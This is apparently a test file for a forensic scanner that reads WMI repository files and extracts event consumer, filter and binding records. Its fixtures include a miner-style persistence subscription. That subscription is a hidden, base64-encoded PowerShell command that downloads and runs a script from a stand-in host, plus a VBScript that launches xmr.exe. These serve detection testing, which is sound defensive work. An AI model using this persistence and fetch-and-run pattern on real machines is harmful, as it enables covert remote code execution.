// OBJECTS.DATA as the byte scan meets it: instance records laid out as flare-wmi documents them
// (class-name hash in UTF-16LE, header, property table, heap of flagged strings) scattered among
// other bytes, across chunk boundaries, in the XP hash form, with UTF-16 strings, with a header of
// another shape; and hostile files (random bytes, a record cut by the end of the file, more
// records than the limit) ending with bounded results and no exception.
import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import {
  bufferSource,
  classNameHash,
  encodeWmiInstance,
  parseReference,
  scanObjectsData,
} from './wmi-repository.js';

const ENC = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://pool.example/x.ps1')",
  'utf16le',
).toString('base64');
const TEMPLATE = `powershell.exe -nop -w hidden -enc ${ENC}`;
const SID = Buffer.from([1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0]);

/** The subscription a miner dropper registers, and the stock SCM Event Log one. */
function subscriptionRecords(): Buffer[] {
  return [
    encodeWmiInstance('CommandLineEventConsumer', {
      CreatorSID: SID,
      Name: 'WindowsUpdater',
      CommandLineTemplate: TEMPLATE,
      KillTimeout: 0,
      RunInteractively: false,
    }),
    encodeWmiInstance('__EventFilter', {
      Name: 'WindowsUpdaterFilter',
      CreatorSID: SID,
      QueryLanguage: 'WQL',
      Query:
        "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
      EventNamespace: 'root\\cimv2',
    }),
    encodeWmiInstance('__FilterToConsumerBinding', {
      Filter: '__EventFilter.Name="WindowsUpdaterFilter"',
      Consumer: 'CommandLineEventConsumer.Name="WindowsUpdater"',
      CreatorSID: SID,
    }),
    encodeWmiInstance('NTEventLogEventConsumer', {
      Name: 'SCM Event Log Consumer',
      SourceName: 'Service Control Manager',
      EventID: 0,
      Category: 0,
      InsertionStringTemplates: [''],
    }),
    encodeWmiInstance('__EventFilter', {
      Name: 'SCM Event Log Filter',
      QueryLanguage: 'WQL',
      Query: 'select * from MSFT_SCMEventLogEvent',
      EventNamespace: 'root\\cimv2',
    }),
    encodeWmiInstance('__FilterToConsumerBinding', {
      Filter: '__EventFilter.Name="SCM Event Log Filter"',
      Consumer: 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"',
    }),
  ];
}

/** Records separated by filler, as pages of other objects separate them in a real file. */
function fileOf(records: Buffer[], filler = 3000): Buffer {
  const parts: Buffer[] = [Buffer.alloc(8192, 0x20)];
  for (const r of records) parts.push(r, randomBytes(filler));
  return Buffer.concat(parts);
}

describe('encodeWmiInstance (the layout assumed)', () => {
  it('starts with the UTF-16LE SHA-256 of the upper-cased class name, and the heap with the class name', () => {
    const rec = encodeWmiInstance('CommandLineEventConsumer', { Name: 'x' });
    const hash = classNameHash('CommandLineEventConsumer');
    expect(hash).toMatch(/^[0-9A-F]{64}$/);
    expect(rec.subarray(0, 128).toString('utf16le')).toBe(hash);
    expect(rec.includes(Buffer.from('\0CommandLineEventConsumer\0', 'latin1'))).toBe(true);
    expect(classNameHash('commandlineeventconsumer')).toBe(hash);
  });
});

describe('scanObjectsData', () => {
  it('reads a CommandLineEventConsumer, its filter and binding, and the stock SCM subscription', async () => {
    const scan = await scanObjectsData(bufferSource(fileOf(subscriptionRecords())));
    expect(scan.capped).toBe(false);
    expect(scan.consumers).toHaveLength(2);
    const miner = scan.consumers.find((c) => c.className === 'CommandLineEventConsumer');
    expect(miner).toMatchObject({ name: 'WindowsUpdater', commandLineTemplate: TEMPLATE });
    expect(miner?.truncated).toBeUndefined();
    const scm = scan.consumers.find((c) => c.className === 'NTEventLogEventConsumer');
    expect(scm).toMatchObject({ name: 'SCM Event Log Consumer', sourceName: 'Service Control Manager' });
    expect(scan.filters.map((f) => [f.name, f.queryLanguage]).sort()).toEqual([
      ['SCM Event Log Filter', 'WQL'],
      ['WindowsUpdaterFilter', 'WQL'],
    ]);
    expect(scan.filters.find((f) => f.name === 'WindowsUpdaterFilter')?.query).toContain(
      'Win32_PerfFormattedData',
    );
    const bindings = scan.bindings.map((b) => [b.consumerClass, b.consumerName, b.filterName]).sort();
    expect(bindings).toEqual([
      ['CommandLineEventConsumer', 'WindowsUpdater', 'WindowsUpdaterFilter'],
      ['NTEventLogEventConsumer', 'SCM Event Log Consumer', 'SCM Event Log Filter'],
    ]);
    expect(scan.bindings.every((b) => b.via === 'record')).toBe(true);
  });

  it('reads an ActiveScriptEventConsumer with a UTF-16 name and a script', async () => {
    const script = 'Set s = CreateObject("WScript.Shell")\r\ns.Run "C:\\Windows\\Fonts\\temp\\xmr.exe", 0';
    const rec = encodeWmiInstance('ActiveScriptEventConsumer', {
      Name: 'Ünïcode 更新',
      ScriptingEngine: 'VBScript',
      ScriptText: script,
    });
    const scan = await scanObjectsData(bufferSource(fileOf([rec])));
    expect(scan.consumers).toEqual([
      expect.objectContaining({
        className: 'ActiveScriptEventConsumer',
        name: 'Ünïcode 更新',
        scriptingEngine: 'VBScript',
        scriptText: script,
      }),
    ]);
  });

  it('finds every record exactly once across chunk boundaries', async () => {
    const records = Array.from({ length: 40 }, (_, i) =>
      encodeWmiInstance('CommandLineEventConsumer', {
        Name: `c${i}`,
        CommandLineTemplate: `cmd.exe /c echo ${i}`,
      }),
    );
    // Odd filler sizes put records astride the 64 KiB chunk edges.
    const buf = fileOf(records, 2711);
    const scan = await scanObjectsData(bufferSource(buf), {
      chunkBytes: 64 * 1024,
      maxRecordBytes: 8 * 1024,
    });
    expect(scan.consumers.map((c) => c.name).sort()).toEqual(records.map((_, i) => `c${i}`).sort());
    expect(scan.bytes).toBe(buf.length);
  });

  it('reads the XP form (MD5 name hash)', async () => {
    const rec = encodeWmiInstance(
      'CommandLineEventConsumer',
      { Name: 'xp', ExecutablePath: 'C:\\WINDOWS\\system32\\cmd.exe' },
      { hash: 'md5' },
    );
    const scan = await scanObjectsData(bufferSource(fileOf([rec])));
    expect(scan.consumers).toEqual([
      expect.objectContaining({ name: 'xp', executablePath: 'C:\\WINDOWS\\system32\\cmd.exe' }),
    ]);
  });

  it('finds the heap when the header between the property table and the heap has another shape', async () => {
    const rec = encodeWmiInstance('CommandLineEventConsumer', {
      Name: 'odd',
      CommandLineTemplate: 'calc.exe',
    });
    // Insert 6 unknown bytes before the heap size: the header reading fails, the heap search does not.
    const heapAt = rec.indexOf(Buffer.from('\0CommandLineEventConsumer\0', 'latin1'));
    const odd = Buffer.concat([
      rec.subarray(0, heapAt - 4),
      Buffer.from([9, 9, 9, 9, 9, 9]),
      rec.subarray(heapAt - 4),
    ]);
    const scan = await scanObjectsData(bufferSource(fileOf([odd])));
    expect(scan.consumers).toEqual([
      expect.objectContaining({ name: 'odd', commandLineTemplate: 'calc.exe' }),
    ]);
  });

  it('finds a binding by its reference strings when its record header cannot be read', async () => {
    // What survives in a freed page: the heap of a binding without its header.
    const heap = Buffer.from(
      '\0__FilterToConsumerBinding\0\0__EventFilter.Name="Lost Filter"\0\0CommandLineEventConsumer.Name="Lost"\0',
      'latin1',
    );
    const scan = await scanObjectsData(bufferSource(fileOf([heap])));
    expect(scan.bindings).toEqual([
      expect.objectContaining({
        consumerClass: 'CommandLineEventConsumer',
        consumerName: 'Lost',
        filterName: 'Lost Filter',
        via: 'text',
      }),
    ]);
  });

  it('survives a record cut by the end of the file', async () => {
    const rec = encodeWmiInstance('CommandLineEventConsumer', { Name: 'cut', CommandLineTemplate: TEMPLATE });
    const full = Buffer.concat([Buffer.alloc(1000), rec]);
    for (const cut of [130, 200, 300, rec.length - 40, rec.length - 1]) {
      const scan = await scanObjectsData(bufferSource(full.subarray(0, 1000 + cut)));
      expect(scan.consumers.length + scan.unreadable).toBe(1);
      for (const c of scan.consumers) {
        expect(c.name).toBe('cut');
        expect(TEMPLATE.startsWith(c.commandLineTemplate ?? '')).toBe(true);
      }
    }
    const nearlyWhole = await scanObjectsData(bufferSource(full.subarray(0, full.length - 40)));
    expect(nearlyWhole.consumers[0]?.truncated).toBe(true);
  });

  it('ends on 20 MiB of random bytes with bounded results', async () => {
    const buf = randomBytes(20 * 1024 * 1024);
    const scan = await scanObjectsData(bufferSource(buf));
    expect(scan.bytes).toBe(buf.length);
    expect(scan.consumers.length + scan.filters.length + scan.bindings.length).toBeLessThanOrEqual(1000);
  });

  it('ends on a file made of record anchors alone, and stops at the anchor limit', async () => {
    const anchor = Buffer.from(classNameHash('CommandLineEventConsumer'), 'utf16le');
    const buf = Buffer.concat(Array.from({ length: 16_384 }, () => anchor));
    const scan = await scanObjectsData(bufferSource(buf));
    expect(scan.consumers).toEqual([]);
    expect(scan.unreadable).toBe(16_384);
    const capped = await scanObjectsData(bufferSource(buf), { maxAnchors: 1000 });
    expect(capped.capped).toBe(true);
    expect(capped.unreadable).toBe(1000);
  });

  it('stops at the record limit', async () => {
    const records = Array.from({ length: 60 }, (_, i) =>
      encodeWmiInstance('CommandLineEventConsumer', { Name: `n${i}`, CommandLineTemplate: 'x' }),
    );
    const scan = await scanObjectsData(bufferSource(fileOf(records, 10)), { maxRecords: 25 });
    expect(scan.capped).toBe(true);
    expect(scan.consumers).toHaveLength(25);
  });

  it('keeps one copy of a record the file holds twice', async () => {
    const rec = encodeWmiInstance('CommandLineEventConsumer', {
      Name: 'twice',
      CommandLineTemplate: 'x.exe',
    });
    const scan = await scanObjectsData(bufferSource(fileOf([rec, rec])));
    expect(scan.consumers).toHaveLength(1);
  });
});

describe('parseReference', () => {
  it('reads class and name from a reference, with or without a namespace path, escapes undone', () => {
    expect(parseReference('CommandLineEventConsumer.Name="X"')).toEqual({
      className: 'CommandLineEventConsumer',
      name: 'X',
    });
    expect(parseReference('\\\\.\\root\\subscription:__EventFilter.Name="a \\"b\\" c"')).toEqual({
      className: '__EventFilter',
      name: 'a "b" c',
    });
    expect(parseReference('garbage')).toBeUndefined();
  });
});
